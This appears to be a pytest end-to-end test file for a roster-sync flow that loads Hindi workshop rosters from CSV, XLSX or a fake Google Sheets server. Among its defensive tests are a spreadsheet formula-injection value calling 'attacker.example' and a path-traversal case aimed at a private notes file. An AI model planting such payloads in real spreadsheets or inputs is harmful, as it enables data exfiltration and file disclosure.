"""sync-roster end to end: real files, the real gspread client against fake Sheets, real stores."""

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from config import PROJECT_DIR
from config.errors import RosterSourceError
from flows.sync_roster import sync_roster
from store.db import engine_for
from store.models import Person, RosterProblem, RosterSync
from tasks.common.sheets import PROBLEMS_WORKSHEET
from tests.conftest import HEADER, person_row, write_event
from tests.support.fake_sheets import FakeSheets

pytestmark = pytest.mark.usefixtures("prefect_api_url", "karyashala_env")


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    return path


def people(database_url: str) -> dict[str, Person]:
    with Session(engine_for(database_url)) as session:
        return {p.name: p for p in session.scalars(select(Person))}


def count(database_url: str, model: type) -> int:
    with Session(engine_for(database_url)) as session:
        return int(session.scalar(select(func.count()).select_from(model)) or 0)


def test_sample_roster_syncs_with_its_problems(tmp_path: Path, database_url: str) -> None:
    event = write_event(
        tmp_path,
        {"source": "csv", "path": str(PROJECT_DIR / "config/rosters/haryana-it-workshop.csv")},
    )
    report = sync_roster(str(event))
    assert report.active_people == 70
    assert report.districts_covered == 22
    assert report.districts_without_people == []
    assert report.by_district["Gurugram"] == 2  # typed as "Gurgaon" in the sheet
    assert report.problem_counts == {
        "invalid_email": 1,
        "missing_email": 2,
        "invalid_phone": 1,
        "duplicate": 1,
        "unknown_district": 1,
        "unsafe_text": 2,
    }
    stored = people_list(database_url)
    assert len(stored) == 70 and all(p.active for p in stored)
    assert count(database_url, RosterProblem) == 8
    written = Path(report.problems_written_to)
    with written.open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows[1:]] == [str(p.row) for p in report.problems]


def test_second_sync_diffs_and_keeps_removed_people_inactive(
    tmp_path: Path, database_url: str
) -> None:
    roster = tmp_path / "roster.csv"
    event = write_event(tmp_path, {"source": "csv", "path": str(roster)})
    anil = person_row(name="अनिल", email="anil@example.org", phone="9812300001")
    bina = person_row(name="बीना", email="bina@example.org", phone="9812300002")
    chetan = person_row(name="चेतन", email="chetan@example.org", phone="9812300003")
    write_csv(roster, [anil, bina, chetan])
    first = sync_roster(str(event))
    assert (first.added, first.changed, first.unchanged, first.removed) == (3, 0, 0, 0)
    ids = {name: p.id for name, p in people(database_url).items()}

    moved = person_row(name="बीना", email="bina@example.org", phone="9812300002", role="प्रवक्ता")
    dev = person_row(name="देव", email="dev@example.org", phone="9812300004")
    write_csv(roster, [dev, moved, anil])
    second = sync_roster(str(event))
    assert (second.added, second.changed, second.unchanged, second.removed) == (1, 1, 1, 1)
    after = people(database_url)
    assert after["चेतन"].active is False
    assert after["बीना"].role == "प्रवक्ता"
    assert {name: p.id for name, p in after.items() if name in ids} == ids

    write_csv(roster, [dev, moved, anil, chetan])
    third = sync_roster(str(event))
    assert (third.added, third.removed) == (1, 0)
    back = people(database_url)["चेतन"]
    assert back.active is True and back.id == ids["चेतन"]
    assert count(database_url, RosterSync) == 3


def test_identity_follows_the_phone_when_the_email_changes(
    tmp_path: Path, database_url: str
) -> None:
    roster = tmp_path / "roster.csv"
    event = write_event(tmp_path, {"source": "csv", "path": str(roster)})
    write_csv(roster, [person_row(email="old@example.org", phone="9812300001")])
    sync_roster(str(event))
    (before,) = people(database_url).values()
    write_csv(roster, [person_row(email="new@example.org", phone="+91 98123 00001")])
    report = sync_roster(str(event))
    (after,) = people(database_url).values()
    assert (report.added, report.changed, report.removed) == (0, 1, 0)
    assert after.id == before.id and after.email == "new@example.org"


def test_a_change_only_in_a_kept_column_or_a_rejected_value_is_a_change(
    tmp_path: Path, database_url: str
) -> None:
    roster = tmp_path / "roster.csv"
    event = write_event(tmp_path, {"source": "csv", "path": str(roster)})
    write_csv(roster, [person_row(phone="98123", remark="पहली")])
    sync_roster(str(event))
    again = sync_roster(str(event))
    assert (again.changed, again.unchanged) == (0, 1)
    write_csv(roster, [person_row(phone="98123", remark="दूसरी")])
    remark = sync_roster(str(event))
    write_csv(roster, [person_row(phone="98124", remark="दूसरी")])
    rejected = sync_roster(str(event))
    assert (remark.changed, rejected.changed) == (1, 1)
    (person,) = people(database_url).values()
    assert person.extra == {"टिप्पणी": "दूसरी"}
    assert person.rejected == {"phone": "98124"}


def test_xlsx_roster_keeps_phones_and_leading_zeros(tmp_path: Path, database_url: str) -> None:
    path = tmp_path / "roster.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "सूची"
    sheet.append(HEADER)
    sheet.append(person_row(phone="09812300001", email="a@example.org"))
    sheet.append([*person_row(email="b@example.org")[:4], 9812300002, "b@example.org", "", ""])
    book.save(path)
    event = write_event(tmp_path, {"source": "xlsx", "path": str(path), "worksheet": "सूची"})
    report = sync_roster(str(event))
    assert report.problems == []
    assert sorted(p.phone or "" for p in people_list(database_url)) == [
        "+919812300001",
        "+919812300002",
    ]


def people_list(database_url: str) -> list[Person]:
    with Session(engine_for(database_url)) as session:
        return list(session.scalars(select(Person)))


def sheets_event(tmp_path: Path, fake: FakeSheets, rows: list[list[str]]) -> Path:
    fake.add_spreadsheet("sheet-key-1", {"रोस्टर": [HEADER, *rows]})
    return write_event(
        tmp_path, {"source": "sheets", "spreadsheet_key": "sheet-key-1", "worksheet": "रोस्टर"}
    )


def test_sheet_sync_reads_once_and_writes_problems_as_text(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets
) -> None:
    formula = '=IMPORTXML("http://attacker.example/x", "//a")'
    event = sheets_event(
        tmp_path,
        fake_sheets,
        [
            person_row(phone="+919812300001", email="a@example.org"),
            person_row(name=formula, phone="09812300002", email="b@example.org"),
            person_row(name="चेतन", phone="98123 00001", email=""),
        ],
    )
    report = sync_roster(str(event))
    assert report.active_people == 2
    assert [(p.row, p.code) for p in report.problems] == [(3, "unsafe_text"), (4, "duplicate")]
    reads = [r for r in fake_sheets.api_requests() if r.method == "GET"]
    assert [r.path.rsplit("/", 1)[-1] for r in reads] == ["sheet-key-1", "'रोस्टर'", "sheet-key-1"]

    written = fake_sheets.values("sheet-key-1", PROBLEMS_WORKSHEET)
    assert written[0][0] == "पंक्ति / Row"
    assert written[1][:4] == ["3", formula, "name", "unsafe_text"]
    assert fake_sheets.formula_cells("sheet-key-1", PROBLEMS_WORKSHEET) == set()
    writes = [r for r in fake_sheets.api_requests() if r.path.endswith("values:batchUpdate")]
    assert [w.body["valueInputOption"] for w in writes] == ["RAW"]
    assert {p.phone for p in people_list(database_url)} == {"+919812300001", "+919812300002"}


def test_resync_clears_fixed_problems_and_costs_four_requests(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets
) -> None:
    event = sheets_event(
        tmp_path, fake_sheets, [person_row(email="bad"), person_row(email="", phone="9812300009")]
    )
    sync_roster(str(event))
    assert len(fake_sheets.values("sheet-key-1", PROBLEMS_WORKSHEET)) == 3
    fake_sheets.spreadsheets["sheet-key-1"]["रोस्टर"].rows[1] = person_row(email="ok@example.org")
    fake_sheets.requests.clear()
    report = sync_roster(str(event))
    assert [p.code for p in report.problems] == ["missing_email"]
    assert len(fake_sheets.values("sheet-key-1", PROBLEMS_WORKSHEET)) == 2
    assert len(fake_sheets.api_requests()) == 4


def test_sheet_failures_retry_a_bounded_number_of_times(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KARYASHALA_SHEETS_MAX_ATTEMPTS", "3")
    event = sheets_event(tmp_path, fake_sheets, [person_row()])
    fake_sheets.always_fail = 503
    with pytest.raises(RosterSourceError, match="spreadsheet 'sheet-key-1' \\(HTTP 503\\)"):
        sync_roster(str(event))
    assert len(fake_sheets.api_requests()) == 3
    assert count(database_url, RosterSync) == 0


def test_rate_limits_and_stalls_are_retried_then_succeed(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets
) -> None:
    event = sheets_event(tmp_path, fake_sheets, [person_row()])
    fake_sheets.fail_next(429, times=2)
    fake_sheets.stall_next(3)  # longer than the 2 s request timeout
    report = sync_roster(str(event))
    assert report.active_people == 1
    statuses = [r.status for r in fake_sheets.api_requests()]
    assert statuses[:2] == [429, 429]


def test_wrong_credentials_are_refused_by_the_token_exchange(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = FakeSheets()  # a key pair the fake server does not trust
    stranger = other.service_account_file(tmp_path / "stranger.json")
    data = json.loads(stranger.read_text())
    data["token_uri"] = f"{fake_sheets.base_url}/token"
    stranger.write_text(json.dumps(data))
    other.server.server_close()
    monkeypatch.setenv("KARYASHALA_GOOGLE_CREDENTIALS_PATH", str(stranger))
    event = sheets_event(tmp_path, fake_sheets, [person_row()])
    with pytest.raises(Exception, match="invalid_grant"):
        sync_roster(str(event))
    assert fake_sheets.api_requests() == []


def test_artifacts_summarise_by_district_without_personal_data(
    tmp_path: Path, database_url: str
) -> None:
    roster = write_csv(
        tmp_path / "roster.csv",
        [
            person_row(email="secret.person@example.org", phone="9812300001"),
            person_row(
                name="बीना", email="bina(at)example.org", phone="9812300002", district="Karnal"
            ),
        ],
    )
    event = write_event(tmp_path, {"source": "csv", "path": str(roster)}, event_id="artifact-test")
    sync_roster(str(event))
    with get_client(sync_client=True) as client:
        summary = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                key=ArtifactFilterKey(any_=["roster-summary-artifact-test"])
            )
        )
        problems = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                key=ArtifactFilterKey(any_=["roster-problems-artifact-test"])
            )
        )
    markdown = str(summary[0].data)
    assert "2 of 22" in markdown
    assert "| Gurugram | 1 |" in markdown and "| Karnal | 1 |" in markdown
    assert "Rohtak" in markdown.split("Districts with nobody:")[1]
    table = json.dumps(problems[0].data, ensure_ascii=False)
    assert "invalid_email" in table
    for secret in ("secret.person", "bina(at)", "9812300001", "+919812300001"):
        assert secret not in markdown + table


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_a_failing_sync_leaves_the_store_as_it_was(tmp_path: Path, database_url: str) -> None:
    roster = tmp_path / "roster.csv"
    event = write_event(tmp_path, {"source": "csv", "path": str(roster)})
    text = event.read_text(encoding="utf-8").replace(
        "    name: नाम", "    name: नाम\n    id: टिप्पणी"
    )
    event.write_text(text, encoding="utf-8")
    write_csv(roster, [person_row(email="a@example.org")])
    sync_roster(str(event))
    write_csv(
        roster,
        [
            person_row(email="b@example.org", phone="9812300002"),
            person_row(email="c@example.org", phone="9812300003", remark="x" * 300),
        ],
    )
    with pytest.raises(Exception, match="too long"):
        sync_roster(str(event))
    (only,) = people_list(database_url)
    assert only.email == "a@example.org" and only.active
    assert count(database_url, RosterSync) == 1


def test_cli_json_contract(tmp_path: Path, prefect_api_url: str, database_url: str) -> None:
    event = write_event(
        tmp_path,
        {"source": "csv", "path": str(PROJECT_DIR / "config/rosters/haryana-it-workshop.csv")},
    )
    result = run_cli(
        "roster", "sync", "--event", str(event), "--json", prefect_api_url=prefect_api_url
    )
    assert result.returncode == 0, result.stderr
    payload = json.loads(result.stdout)
    assert payload["active_people"] == 70
    assert payload["districts_covered"] == 22
    codes = {p["code"] for p in payload["problems"]}
    assert codes == {
        "duplicate",
        "invalid_email",
        "missing_email",
        "invalid_phone",
        "unknown_district",
        "unsafe_text",
    }
    for problem in payload["problems"]:
        assert set(problem) >= {"row", "field", "code", "message_hi", "message_en"}


def run_cli(*args: str, prefect_api_url: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "karyashala.cli", *args],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PREFECT_API_URL": prefect_api_url},
    )


def test_cli_wrong_event_file_is_a_message_not_a_traceback(
    tmp_path: Path, prefect_api_url: str
) -> None:
    event = write_event(tmp_path, {"source": "csv", "path": "roster.csv"})
    event.write_text(
        event.read_text(encoding="utf-8").replace("duration_hours: 5", "duration_hours: lots")
    )
    result = run_cli("roster", "sync", "--event", str(event), prefect_api_url=prefect_api_url)
    assert result.returncode == 2
    assert "duration_hours: Input should be a valid number" in result.stderr
    assert str(event) in result.stderr
    assert "Traceback" not in result.stderr


def test_cli_missing_roster_file_ends_with_what_to_do(tmp_path: Path, prefect_api_url: str) -> None:
    event = write_event(tmp_path, {"source": "csv", "path": str(tmp_path / "missing.csv")})
    result = run_cli("roster", "sync", "--event", str(event), prefect_api_url=prefect_api_url)
    assert result.returncode == 2
    last_line = result.stderr.strip().splitlines()[-1]
    assert "missing.csv does not exist: check roster.path" in last_line


def test_a_roster_path_to_another_file_never_shows_what_it_holds(
    tmp_path: Path, database_url: str
) -> None:
    """roster.path: ../../etc/passwd put the file's first line into the error and the state."""
    private = tmp_path / "private"
    private.mkdir()
    (private / "notes.txt").write_text("db password: hunter2\nsecond line\n", encoding="utf-8")
    events = tmp_path / "events"
    events.mkdir()
    event = write_event(events, {"source": "csv", "path": "../private/notes.txt"})
    state = sync_roster(str(event), return_state=True)
    assert state.is_failed()
    with pytest.raises(RosterSourceError) as error:
        state.result()
    for text in (str(error.value), state.message or ""):
        assert "hunter2" not in text and "second line" not in text
    assert "no column 'नाम' (for name)" in str(error.value)
    assert count(database_url, RosterSync) == 0


def test_a_duplicated_mapped_header_stops_the_sync_before_anything_is_stored(
    tmp_path: Path, database_url: str, fake_sheets: FakeSheets
) -> None:
    header = [*HEADER, "ईमेल"]  # a second, empty ईमेल column added at the end
    fake_sheets.add_spreadsheet("sheet-key-1", {"रोस्टर": [header, [*person_row(), ""]]})
    event = write_event(
        tmp_path, {"source": "sheets", "spreadsheet_key": "sheet-key-1", "worksheet": "रोस्टर"}
    )
    with pytest.raises(RosterSourceError, match=r"F \('ईमेल'\) and I \('ईमेल'\)"):
        sync_roster(str(event))
    assert count(database_url, RosterSync) == 0
    assert [r for r in fake_sheets.api_requests() if r.method == "POST"] == []
